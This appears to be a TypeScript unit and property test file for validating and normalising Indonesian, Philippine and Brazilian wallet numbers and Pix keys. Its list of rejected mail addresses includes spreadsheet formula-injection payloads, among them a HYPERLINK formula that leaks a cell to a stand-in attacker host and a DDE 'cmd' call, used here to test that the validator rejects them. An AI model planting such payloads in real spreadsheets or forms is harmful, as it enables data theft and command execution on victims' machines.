import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { markets, type Market } from '../market/codes';
import { accountKeyOf, accountKeys, accountNoProblem } from './accountNumber';

describe('account number', () => {
  it.each([
    ['08123456', 'short'],
    ['081234567', undefined],
    ['0812a4567', 'digits'],
    ['091234567', 'prefix'],
    ['181234567', 'prefix'],
    ['', 'short'],
    ['0812-3456-7890', undefined],
    [' 0812 3456 7890 ', undefined],
    ['0812-3456', 'short'],
    ['+62 812 3456 7890', undefined],
    ['62 812 3456 7890', undefined],
    ['0062 812 3456 7890', undefined],
    ['81234567890', 'prefix'],
    ['+63 917 123 4567', 'prefix'],
    ['080812 34567890', 'long'],
    ['0800123456', 'invalid'],
    ['0812345678901', undefined],
    ['08123456789012', 'long'],
    ['62812345', 'short'],
    ['+62 812 3456 7890 123', 'long'],
  ])('Indonesia: digits only, at least 9, first 0, second 8: %s (ACCOUNT-7)', (no, problem) => {
    expect(accountNoProblem(no, 'id')).toBe(problem);
  });
  it.each([
    ['091712345', 'short'],
    ['0917123456', 'short'],
    ['63 917 123 456', 'short'],
    ['091712345678', 'long'],
    ['0917-12345', 'short'],
    ['9181234567', undefined],
    ['0281234567', 'prefix'],
    ['0000000000', 'prefix'],
    ['9'.repeat(60), 'long'],
    ['1234567890123456789012345', 'prefix'],
    ['0917 123 4567', undefined],
    ['(0917) 123-4567', undefined],
    ['0917_1234567', 'digits'],
  ])('Philippines: digits only, at least 10: %s (ACCOUNT-8)', (no, problem) => {
    expect(accountNoProblem(no, 'ph')).toBe(problem);
  });
  it.each([
    ['ana@correio.example', undefined],
    ['ana@correio', 'mail'],
    ['@', 'mail'],
    ['1198765432', 'short'],
    ['11987654321', undefined],
    ['+55 11 98765-4321', undefined],
    ['(11) 98765-4321', undefined],
    ['1198765-432', 'short'],
    ['20987654321', 'invalid'],
    ['5511987654321', undefined],
    ['39053344705', undefined],
    ['39053344704', 'invalid'],
    ['11111111111', 'invalid'],
    ['390.533.447-05', undefined],
    ['123.456.789-09', undefined],
    ['123.456.789-08', 'invalid'],
    [' Ana@Correio.example ', undefined],
  ])('Brazil: a mail address, a phone, or a CPF with its check digits: %s (ACCOUNT-9)', (no, problem) => {
    expect(accountNoProblem(no, 'br')).toBe(problem);
  });
});

const mailAddresses = [
  'ana@correio.example',
  'ana.maria+pix@sub.correio.com.br',
  '_ana@correio.example',
  "o'neil@correio.example",
  `${'a'.repeat(64)}@correio.co`,
];
const noMailAddresses = [
  '=HYPERLINK("//evil.example?"&B2,"Pix")&"@a.co"',
  `=cmd|'/c'!a1&"@a.co"`,
  '=1+1@a.co',
  '+1@a.co',
  '-2+3@a.co',
  '@b@a.co',
  '\uff1d1+1@a.co',
  '\u200b=1+1@a.co',
  'a=1@a.co',
  'ana;=1+1@a.co',
  'ana,=1+1@a.co',
  'ana\t=1@a.co',
  'ana maria@a.co',
  '.ana@a.co',
  'ana.@a.co',
  'ana..maria@a.co',
  'ana@a',
  'ana@-a.co',
  'ana@a-.co',
  'ana@a..co',
  'ana@mail.example.',
  'ana@a.co/x',
  'josé@correio.com.br',
  'ana@127.0.0.1',
  `${'a'.repeat(67)}@correio.co`,
];

describe('a mail address as a Pix key (ACCOUNT-9)', () => {
  it.each(mailAddresses)('%s is a Pix key', (no) => expect(accountKeys(no, 'br')).toEqual([{ no, kind: 'MAIL' }]));
  it.each(noMailAddresses)('%j is no Pix key', (no) => expect(accountNoProblem(no, 'br')).toBe('mail'));

  it('a mail address as a Pix key holds nothing that a spreadsheet takes for a formula or for the end of a cell', () => {
    const sign = fc.constantFrom(...'=+-@|;,\t\r\n"\'&().!ab1 \uff1d\uff0b\u200b');
    const address = fc.array(sign, { maxLength: 8 }).map((signs) => `${signs.join('')}@a.co`);
    fc.assert(
      fc.property(address, (no) => {
        for (const key of accountKeys(no, 'br')) expect(key.no).toMatch(/^[a-z0-9_][^=;,"\s]*$/);
      }),
      { numRuns: 2000 },
    );
  });
});

describe('a wallet number has one canonical form and a kind (ACCOUNT-14, ACCOUNT-15)', () => {
  it.each<[Market, string, string, readonly string[]]>([
    [
      'id',
      '081234567890',
      'PHONE',
      ['081234567890', '0812-3456 7890', '+62 812 3456 7890', '62081234567890', '\u20680812 3456 7890\u2069'],
    ],
    [
      'ph',
      '09171234567',
      'PHONE',
      [
        '09171234567',
        '9171234567',
        '639171234567',
        '+63 (917) 123-4567',
        '00639171234567',
        '6309171234567',
        '0639171234567',
        '000639171234567',
        '63 63 9171234567',
        '\u202a+63 917 123 4567\u202c',
      ],
    ],
    ['ph', '09181234567', 'PHONE', ['09181234567']],
    ['ph', '09191234567', 'PHONE', ['9191234567']],
    ['ph', '09171234568', 'PHONE', ['09171234568', '00639171234568']],
    ['ph', '09171234569', 'PHONE', ['6309171234569']],
    ['br', '+5511987654321', 'PHONE', ['11987654321', '+55 11 98765-4321', '011987654321', '+55 (011) 98765-4321']],
    ['br', '+5511987654382', 'PHONE', ['+55 (11) 98765-4382']],
    ['br', '+5511987654390', 'PHONE', ['011 98765-4390']],
    ['br', '+5511987654374', 'PHONE', ['+55 (11) 98765-4374', '011 98765-4374']],
    ['br', '+5555987654321', 'PHONE', ['55987654321', '5555987654321']],
    ['br', '12345678909', 'CPF', ['123.456.789-09', '12345678909']],
    ['br', '52998224725', 'CPF', ['529.982.247-25', '52998224725']],
    ['br', 'maria@correio.com', 'MAIL', ['maria@correio.com', ' Maria@Correio.com ', 'maria@correio.com\u200b']],
  ])('a wallet number in %s is %s, %s', (market, no, kind, written) => {
    expect(written.map((one) => accountKeys(one, market))).toEqual(written.map(() => [{ no, kind }]));
  });

  it('a wallet number has its canonical form whatever stands between its digits, and from that form too', () => {
    const known = fc.constantFrom<[Market, string]>(
      ['id', '081234567890'],
      ['ph', '09171234567'],
      ['br', '11987654321'],
      ['br', '12345678909'],
    );
    const between = fc.constantFrom('', ' ', '.', '-', '\u2011', '\u00a0', '\u200b', '\ufe0f', '\u3000', '\u2069');
    fc.assert(
      fc.property(known, fc.array(between, { minLength: 14, maxLength: 14 }), ([market, no], gaps) => {
        const written = [...no].map((digit, index) => `${gaps[index] ?? ''}${digit}`).join('');
        const keys = accountKeys(written, market);
        expect(keys).toEqual(accountKeys(no, market));
        expect(accountKeys(keys[0]?.no ?? '', market)).toEqual(keys);
      }),
      { numRuns: 500 },
    );
  });

  it('a number of any digits that is accepted is a mobile number or a CPF and reads the same again', () => {
    const digits = fc.stringMatching(/^[0-9]{1,20}$/);
    const forms: Record<Market, RegExp> = {
      id: /^08[1-9]\d{6,10}$/,
      ph: /^0[89]\d{9}$/,
      br: /^(\+55[1-9]{2}9\d{8}|\d{11})$/,
    };
    fc.assert(
      fc.property(digits, fc.constantFrom(...markets), (written, market) => {
        for (const { no, kind } of accountKeys(written, market)) {
          expect(no).toMatch(forms[market]);
          expect(accountKeyOf(no, market, kind)).toEqual({ no, kind });
        }
      }),
      { numRuns: 3000 },
    );
  });
});

describe('eleven digits that are both a Brazilian mobile number and a CPF (ACCOUNT-16)', () => {
  it('eleven digits are two keys, and only the person knows which one', () => {
    expect(accountKeys('11 98765-4374', 'br')).toEqual([
      { no: '+5511987654374', kind: 'PHONE' },
      { no: '11987654374', kind: 'CPF' },
    ]);
    expect(accountKeyOf('11987654374', 'br')).toBeUndefined();
    expect(accountKeyOf('11987654374', 'br', 'CPF')).toEqual({ no: '11987654374', kind: 'CPF' });
    expect(accountKeyOf('11987654374', 'br', 'PHONE')).toEqual({ no: '+5511987654374', kind: 'PHONE' });
    expect(accountKeyOf('11987654374', 'br', 'MAIL')).toBeUndefined();
    expect(accountNoProblem('11987654374', 'br')).toBeUndefined();
  });

  it('eleven digits of a kind that does not fit them are no number', () => {
    expect(accountKeyOf('11987654321', 'br', 'CPF')).toBeUndefined();
    expect(accountKeyOf('12345678909', 'br', 'PHONE')).toBeUndefined();
    expect(accountKeyOf('081234567890', 'id', 'PHONE')).toEqual({ no: '081234567890', kind: 'PHONE' });
  });
});
